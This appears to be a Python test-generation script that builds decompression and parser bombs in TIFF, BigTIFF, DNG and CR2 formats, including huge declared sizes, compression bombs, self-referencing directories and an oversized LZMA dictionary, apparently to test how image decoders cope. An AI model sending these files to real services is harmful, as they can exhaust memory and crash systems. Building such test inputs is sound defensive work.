"""Bombs in TIFF and camera raw files: directories, strips, tiles, compressions."""

import lzma
import struct
import zlib

from jpegs import TABLES, frame, jpeg, scan
from packing import LONG, SHORT, UNDEFINED, directory, picture, riff_chunk, tiff, webp, zeros

SIDE = 16_383


def arrays(entries: list, where: dict[int, tuple[int, int]]) -> list:
    """Entries with count and place of some tags changed."""
    kept = [entry for entry in entries if entry[0] not in where]
    return kept + [(tag, LONG, count, place) for tag, (count, place) in where.items()]


def one_strip(compression: int, data: bytes, **more) -> bytes:
    return tiff(picture(SIDE, SIDE, compression, len(data), **more), data)


def same_tiles(side: int, tile: int, compression: int, data: bytes) -> bytes:
    """A picture in tiles that are all the same bytes."""
    count = (-(-side // tile)) ** 2
    entries = [entry for entry in picture(side, side, compression) if entry[0] not in (273, 278, 279)]
    entries += [(322, LONG, 1, tile), (323, LONG, 1, tile), (324, LONG, count, 1024),
                (325, LONG, count, 1024 + 4 * count)]
    start = 1024 + 8 * count
    return tiff(entries, struct.pack("<I", start) * count + struct.pack("<I", len(data)) * count + data)


def chain(count: int) -> bytes:
    """Directories of one entry, each of which points to the next."""
    size = 2 + 12 + 4
    parts = [directory([(254, LONG, 1, 0)], 8 + size * (number + 1)) for number in range(count)]
    return b"II*\0\x08\0\0\0" + b"".join(parts) + directory([], 0)


def packbits(length: int) -> bytes:
    return b"\x81\0" * (length // 128 + 1)


def msb_lzw(length: int) -> bytes:
    """Codes of a TIFF for that many zeros, from the highest bit down; widths change one code early."""
    value, filled, out = 256, 9, bytearray()
    count = run = 0
    while count < length:
        width = max(9, (259 + max(0, run - 1)).bit_length())
        value = value << width | (257 + run if run else 0)
        filled += width
        run += 1
        count += run
        if run == 3_700:
            value, filled, run = value << 12 | 256, filled + 12, 0
        keep = filled % 8
        out += (value >> keep).to_bytes(filled // 8, "big")
        value, filled = value & (1 << keep) - 1, keep
    return bytes(out) + (value << 8 - filled & 255 if filled else 0).to_bytes(1, "big") + b"\x80\x80"


def bombs():
    yield "TIFF, 60,000 x 60,000", "tif", lambda: tiff(picture(60_000, 60_000, 1, 100), bytes(100))
    yield "TIFF, 268 MP without pixels", "tif", lambda: one_strip(1, bytes(100))
    yield "TIFF, deflate, 268 MP", "tif", lambda: one_strip(8, zeros(SIDE * SIDE))
    yield "TIFF, deflate, 64 x 64 with 10 GB", "tif", lambda: (
        lambda data: tiff(picture(64, 64, 8, len(data)), data))(zeros(10 << 30))
    yield "TIFF, PackBits, 268 MP", "tif", lambda: one_strip(32773, packbits(SIDE * SIDE))
    yield "TIFF, LZW, 66 MP", "tif", lambda: (
        lambda data: tiff(picture(8_191, 8_191, 5, len(data)), data))(msb_lzw(8_191 * 8_191))
    yield "TIFF, fax, 268 MP of white lines", "tif", lambda: one_strip(4, b"\xff" * (SIDE // 8 + 1), bits=1)
    yield "TIFF, LZMA, 200 MP", "tif", lambda: (lambda data: tiff(
        picture(14_142, 14_142, 34925, len(data)), data))(lzma.compress(bytes(200_000_000), preset=0))
    yield "TIFF, LZMA with a dictionary of 4 GB", "tif", lambda: (lambda data: tiff(
        picture(8, 8, 34925, len(data)), data))(large_dictionary())
    inner = jpeg(TABLES, frame(0xC0, 65_500, 65_500), scan(data=bytes(9)))
    yield "TIFF, a JPEG of 65,500 x 65,500 in 64 x 64", "tif", lambda: tiff(
        picture(64, 64, 7, len(inner)), inner)
    yield "TIFF, a WebP of 268 MP in 64 x 64", "tif", lambda: (lambda data: tiff(
        picture(64, 64, 50001, len(data), 3, 8, 2), data))(large_webp())
    yield "TIFF, 4 billion strips", "tif", lambda: tiff(
        arrays(picture(64, 64), {273: (0xFFFFFFFF, 1024), 279: (0xFFFFFFFF, 1024)}), bytes(4096))
    yield "TIFF, 65,535 samples in a pixel", "tif", lambda: tiff(picture(64, 64, 1, 4096, 65_535), bytes(4096))
    yield "TIFF, tiles of one pixel", "tif", lambda: same_tiles(1_500, 1, 1, b"\0")
    yield "TIFF, tiles of 16 pixels, 268 MP, deflate, all the same", "tif", lambda: same_tiles(
        SIDE, 16, 8, zeros(256))
    yield "TIFF, tiles of 4 billion pixels", "tif", lambda: tiff(
        [entry for entry in picture(64, 64) if entry[0] not in (273, 278, 279)]
        + [(322, LONG, 1, 65_520), (323, LONG, 1, 65_520), (324, LONG, 1, 1024), (325, LONG, 1, 100)], bytes(100))
    packed = zeros(1 << 30)
    yield "TIFF, 4,096 tiles that each unpack to 1 GB", "tif", lambda: same_tiles(1_024, 16, 8, packed)
    yield "TIFF, a directory that follows itself", "tif", lambda: tiff(
        picture(64, 64, 1, 4096), bytes(4096), 8)
    yield "TIFF, 1,000,000 directories", "tif", lambda: chain(1_000_000)
    yield "TIFF, a directory within itself", "tif", lambda: tiff(
        picture(64, 64, 1, 4096) + [(330, LONG, 1, 8), (34665, LONG, 1, 8)], bytes(4096))
    many = 16_000_000
    yield "TIFF, 16,000,000 directories within, all itself", "tif", lambda: tiff(
        picture(64, 64, 1, 4096) + [(330, LONG, many, 8192)], bytes(7168) + struct.pack("<I", 8) * many)
    yield "TIFF, profile of 4 GB", "tif", lambda: tiff(
        picture(64, 64, 1, 4096) + [(34675, UNDEFINED, 0xFFFFFFFF, 1024)], bytes(4096))
    yield "TIFF, XMP of 200 MB", "tif", lambda: tiff(
        picture(64, 64, 1, 4096) + [(700, 1, 200_000_000, 8192)], bytes(200_010_000))
    yield "TIFF, 65,535 entries", "tif", lambda: (
        b"II*\0\x08\0\0\0" + directory([(300, SHORT, 0xFFFFFFFF, 0)] * 65_535, 8))
    yield "BigTIFF, 2^60 entries", "tif", lambda: (
        b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, 1 << 60) + bytes(4096))
    raw = [(271, 2, 6, 900), (50706, 1, 4, 0x0401)]
    yield "DNG, a directory within itself", "dng", lambda: tiff(
        picture(64, 64, 1, 4096) + raw + [(330, LONG, 1, 8)], bytes(4096))
    yield "DNG, 16,000,000 directories within, all itself", "dng", lambda: tiff(
        picture(64, 64, 1, 4096) + raw + [(330, LONG, many, 8192)], bytes(7168) + struct.pack("<I", 8) * many)
    yield "CR2, 1,000,000 directories", "cr2", lambda: (
        b"II*\0\x10\0\0\0CR\2\0\0\0\0\0" + chain(1_000_000)[8:])


def large_dictionary() -> bytes:
    """An XZ stream whose block header asks for a dictionary of 4 GB, with its checksum mended."""
    data = bytearray(lzma.compress(bytes(64), check=lzma.CHECK_NONE))
    length = (data[12] + 1) * 4
    data[12 + 4] = 40
    data[12 + length - 4:12 + length] = struct.pack("<I", zlib.crc32(data[12:12 + length - 4]))
    return bytes(data)


def large_webp() -> bytes:
    return webp(riff_chunk(b"VP8L", b"\x2f" + struct.pack("<I", 16_382 | 16_382 << 14) + b"\x88\x88\x08\0\0\0"))
